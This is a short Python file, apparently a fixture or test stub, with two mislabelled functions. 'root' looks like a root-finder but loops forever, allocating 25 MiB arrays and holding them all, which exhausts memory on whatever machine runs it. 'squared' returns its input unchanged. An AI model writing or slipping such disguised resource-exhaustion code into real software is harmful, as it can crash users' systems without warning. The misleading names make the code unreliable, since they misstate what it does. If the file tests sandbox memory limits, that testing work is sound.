import numpy as np


def root(f, x):
    kept = []
    while True:
        kept.append(f(np.ones(25 << 20, dtype=np.int8)))


def squared(x):
    return x
